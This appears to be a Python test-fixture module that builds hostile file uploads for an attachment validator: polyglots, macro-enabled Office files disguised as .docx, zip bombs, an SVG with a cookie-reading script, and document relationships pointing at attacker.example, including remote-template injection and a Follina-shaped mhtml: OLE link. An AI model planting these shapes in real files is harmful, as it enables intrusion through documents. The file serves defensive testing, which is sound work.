"""Hostile uploads, made by code so the suite carries no binary fixtures.

Each builder returns bytes that lie about what they are in one particular way; the genuine
files they start from are `parley.support.tests.corpus`'s."""

import struct

from parley.support.attachments import DOCX, OOXML_MAIN_CONTENT_TYPES, XLSX
from parley.support.tests import corpus

DOCM_MAIN = b"application/vnd.ms-word.document.macroEnabled.main+xml"
XLSM_MAIN = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
VBA_PROJECT = b"application/vnd.ms-office.vbaProject"
RELS_NS = b"http://schemas.openxmlformats.org/package/2006/relationships"
REL_TYPE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.cookie)</script></svg>"
)


def _types(*overrides: tuple[bytes, bytes]) -> bytes:
    body = b"".join(
        b'<Override PartName="' + part + b'" ContentType="' + kind + b'"/>'
        for part, kind in overrides
    )
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="xml" ContentType="application/xml"/>' + body + b"</Types>"
    )


def _rels(*relationships: tuple[bytes, bytes, bool]) -> bytes:
    body = b"".join(
        b'<Relationship Id="rId%d" Type="' % number
        + REL_TYPE
        + kind
        + b'" Target="'
        + target
        + (b'" TargetMode="External"/>' if external else b'"/>')
        for number, (kind, target, external) in enumerate(relationships, start=1)
    )
    return (
        b'<?xml version="1.0"?><Relationships xmlns="'
        + RELS_NS
        + b'">'
        + body
        + b"</Relationships>"
    )


# The main part of a package: its path and a minimal body.
WORD_MAIN = ("word/document.xml", b"<w:document/>")
EXCEL_MAIN = ("xl/workbook.xml", b"<workbook/>")


def _package(
    main: tuple[str, bytes],
    main_type: bytes,
    extra: dict[str, bytes],
    *overrides: tuple[bytes, bytes],
) -> bytes:
    """An OOXML package: its content types (the main part's first), the main part, `extra`."""
    path, body = main
    return corpus.zip_of(
        {
            "[Content_Types].xml": _types((b"/" + path.encode(), main_type), *overrides),
            path: body,
            **extra,
        }
    )


def _docx(extra: dict[str, bytes], *overrides: tuple[bytes, bytes]) -> bytes:
    return _package(WORD_MAIN, OOXML_MAIN_CONTENT_TYPES[DOCX], extra, *overrides)


# --- Polyglots ------------------------------------------------------------------------------


def pdf_html_polyglot() -> bytes:
    """A PDF signature followed by a page of HTML: a browser sniffing it sees a web page."""
    return b"%PDF-1.4\n" + corpus.html() + b"\n" + corpus.pdf()


def html_pdf_polyglot() -> bytes:
    """HTML first, a PDF later (PDF readers look for %PDF in the first kilobyte)."""
    return corpus.html() + b"\n" + corpus.pdf()


def jpeg_with_zip() -> bytes:
    """A real JPEG with a ZIP appended (a 'GIFAR'): readers of either format accept it."""
    return corpus.jpeg() + corpus.plain_zip()


def png_with_zip() -> bytes:
    return corpus.png() + corpus.docx()


def pdf_with_zip() -> bytes:
    return corpus.pdf() + corpus.plain_zip()


# --- Office files -----------------------------------------------------------------------------


def docm() -> bytes:
    """A macro-enabled Word document, as Word saves it (to be renamed .docx)."""
    return _package(
        WORD_MAIN,
        DOCM_MAIN,
        {"word/vbaProject.bin": corpus.ole("VBA")},
        (b"/word/vbaProject.bin", VBA_PROJECT),
    )


def xlsm() -> bytes:
    return _package(
        EXCEL_MAIN,
        XLSM_MAIN,
        {"xl/vbaProject.bin": corpus.ole("VBA")},
        (b"/xl/vbaProject.bin", VBA_PROJECT),
    )


def docx_declaring_both_mains() -> bytes:
    """The plain main type to pass a substring check, and the macro-enabled one as well."""
    return _docx(
        {"word/vbaProject.bin": corpus.ole("VBA")},
        (b"/word/other.xml", DOCM_MAIN),
        (b"/word/vbaProject.bin", VBA_PROJECT),
    )


def docx_with_vba_project() -> bytes:
    """A plain .docx carrying a VBA project part under another content type."""
    return _docx({"word/vbaProject.bin": corpus.ole("VBA")})


def docx_with_remote_template() -> bytes:
    """Template injection: settings.xml.rels fetches a template from the attacker's server."""
    rels = _rels((b"attachedTemplate", b"http://attacker.example/t.dotm", True))
    return _docx({"word/_rels/settings.xml.rels": rels})


def docx_with_external_ole_object() -> bytes:
    """The Follina shape: an external oleObject relationship pointing at an mhtml: URL."""
    rels = _rels((b"oleObject", b"mhtml:http://attacker.example/x.html!x-usc:x", True))
    return _docx({"word/_rels/document.xml.rels": rels})


def docx_with_hyperlink() -> bytes:
    """An ordinary document with a web link: external, but only a link."""
    rels = _rels(
        (b"styles", b"styles.xml", False),
        (b"hyperlink", b"https://shop.example/orders/1", True),
    )
    return _docx({"word/_rels/document.xml.rels": rels})


def xlsx_with_external_link() -> bytes:
    rels = _rels((b"externalLinkPath", b"file:///\\\\attacker.example\\share\\x.xlsx", True))
    return _package(
        EXCEL_MAIN,
        OOXML_MAIN_CONTENT_TYPES[XLSX],
        {"xl/externalLinks/_rels/externalLink1.xml.rels": rels},
    )


def zip_bomb_by_size(uncompressed_bytes: int) -> bytes:
    return corpus.zip_bomb(uncompressed_bytes)


def zip_bomb_by_entries(entries: int) -> bytes:
    return _docx({f"word/media/{number}.bin": b"" for number in range(entries)})


def ole_with_streams(*names: str) -> bytes:
    """An OLE2 compound file whose root holds one 4 KiB stream per name (at most 3)."""
    base = corpus.ole(names[0])
    if len(names) == 1:
        return base
    # Rewrite the directory sector: entries 1..n are siblings (each the right sibling of the
    # one before), all pointing at the same data, which olefile accepts.
    assert len(names) <= 3
    sector = 512
    directory_offset = sector * 2  # the header, the FAT sector, then the directory
    no_stream = 0xFFFFFFFF
    entries = []
    for index, name in enumerate(names, start=1):
        encoded = (name + "\x00").encode("utf-16-le")
        right = index + 1 if index < len(names) else no_stream
        entries.append(
            encoded.ljust(64, b"\x00")
            + struct.pack("<HBB", len(encoded), 2, 1)
            + struct.pack("<III", no_stream, right, no_stream)
            + b"\x00" * 36
            + struct.pack("<IQ", 2, 4096)
        )
    root = base[directory_offset : directory_offset + 128]
    directory = root + b"".join(entries)
    directory = directory.ljust(sector, b"\x00")
    return base[:directory_offset] + directory + base[directory_offset + sector :]
